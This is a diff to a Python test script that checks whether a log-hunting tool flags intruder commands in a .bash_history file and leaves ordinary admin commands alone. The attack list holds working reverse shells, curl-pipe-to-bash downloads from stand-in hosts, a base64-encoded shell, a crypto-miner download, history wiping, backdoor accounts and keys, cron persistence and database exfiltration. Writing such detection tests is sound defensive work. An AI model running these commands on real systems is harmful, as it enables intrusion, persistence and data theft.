@@ -133,6 +133,59 @@ B = [
  "/p/123?ref=email&campaign=winter_sale_2024&utm_content=hero_banner_variant_b_with_long_name", "/search?q=%5Cn+newline", "/search?q=100%25+cotton",
 ]
 
+# Shell history (a .bash_history): what an intruder types, and an administrator's day.
+SHELL_ATTACKS = [
+    'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
+    'nc -e /bin/sh 203.0.113.5 4444',
+    'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f',
+    'python3 -c \'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])\'',
+    'perl -e \'use Socket;$i="203.0.113.5";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");\'',
+    'php -r \'$sock=fsockopen("203.0.113.5",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
+    'socat tcp-connect:203.0.113.5:4444 exec:/bin/sh,pty,stderr,setsid',
+    'curl http://203.0.113.5/x.sh | bash',
+    'wget -qO- http://203.0.113.5/x | sh',
+    'wget http://203.0.113.5/xmrig -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x',
+    'curl -fsSL http://evil.example/i.sh | sudo bash',
+    'echo "YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNS80NDQ0IDA+JjE=" | base64 -d | bash',
+    'unset HISTFILE',
+    'export HISTFILESIZE=0',
+    'history -c',
+    'useradd -m -o -u 0 sysadm',
+    "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC attacker@kali' >> /root/.ssh/authorized_keys",
+    '(crontab -l; echo "*/5 * * * * curl -s http://evil.example/x.sh | sh") | crontab -',
+    'iptables -F',
+    'ruby -rsocket -e\'f=TCPSocket.open("203.0.113.5",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
+    'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.5:4444 > /tmp/s; rm /tmp/s',
+    'tar czf /tmp/db.tgz /var/lib/mysql; curl -F f=@/tmp/db.tgz http://evil.example/up',
+    'mysqldump -u root -pS3cret shop > /dev/shm/shop.sql',
+    'scp /dev/shm/shop.sql attacker@203.0.113.5:/loot/',
+    'chmod 4755 /tmp/.bash',
+    "echo 'www-data ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
+    'curl -s http://203.0.113.5:8000/linpeas.sh | sh',
+    './xmrig -o pool.minexmr.com:4444 -u 44abc',
+    'nohup ./kdevtmpfsi > /dev/null 2>&1 &',
+]
+SHELL_BENIGN = [
+    'ls -la',
+    'cd /var/www/html',
+    'vim index.php',
+    'git pull origin main',
+    'sudo systemctl restart nginx',
+    'tail -f /var/log/nginx/access.log',
+    'curl -I https://shop.example.jp',
+    'wget https://wordpress.org/latest.tar.gz',
+    'tar xzf latest.tar.gz',
+    'mysqldump -u backup -p shop > /backup/shop-2024-02-29.sql',
+    'composer install --no-dev',
+    'crontab -e',
+    'ssh deploy@web2',
+    'docker compose up -d',
+    'apt update && apt upgrade -y',
+    'nc -zv db.internal 3306',
+    'base64 notes.txt > notes.b64',
+    'python3 manage.py migrate',
+]
+
 
 def enc(p, how):
     if how == 0:  # as a browser sends it
@@ -144,11 +197,11 @@ def enc(p, how):
     return urllib.parse.quote(p, safe="/:=&?()*,;'!$@~[]{}|<>\"`^")  # as a lax server logs it
 
 
-def hunt(shodo, log_lines, path):
+def hunt(shodo, log_lines, path, log_format="combined"):
     with open(path, "w") as f:
         f.write("\n".join(log_lines) + "\n")
     out = subprocess.run([shodo, "hunt", "--quiet", "--no-detectors", "--format", "jsonl",
-                          "--log-format", "combined", path], capture_output=True, text=True).stdout
+                          "--log-format", log_format, path], capture_output=True, text=True).stdout
     hits = collections.defaultdict(list)
     for line in out.splitlines():
         f = json.loads(line)
@@ -208,6 +261,18 @@ def main():
     print(f"benign flagged: {len(flagged)} / {len(B)}")
     for n, titles in sorted(flagged.items()):
         print("FLAGGED", B[n - 1], "|", "; ".join(titles))
+    history = SHELL_ATTACKS + SHELL_BENIGN
+    flagged = hunt(shodo, history, os.path.join(work, ".bash_history"), "bash_history")
+    caught = [n for n in range(1, len(SHELL_ATTACKS) + 1) if n in flagged]
+    print(f"shell history attacks detected: {len(caught)} / {len(SHELL_ATTACKS)}")
+    if show_misses:
+        for n in range(1, len(SHELL_ATTACKS) + 1):
+            if n not in flagged:
+                print("MISS shell", SHELL_ATTACKS[n - 1])
+    wrong = [n for n in flagged if n > len(SHELL_ATTACKS)]
+    print(f"shell history benign commands flagged: {len(wrong)} / {len(SHELL_BENIGN)}")
+    for n in sorted(wrong):
+        print("FLAGGED", history[n - 1], "|", "; ".join(flagged[n]))
 
 
 if __name__ == "__main__":
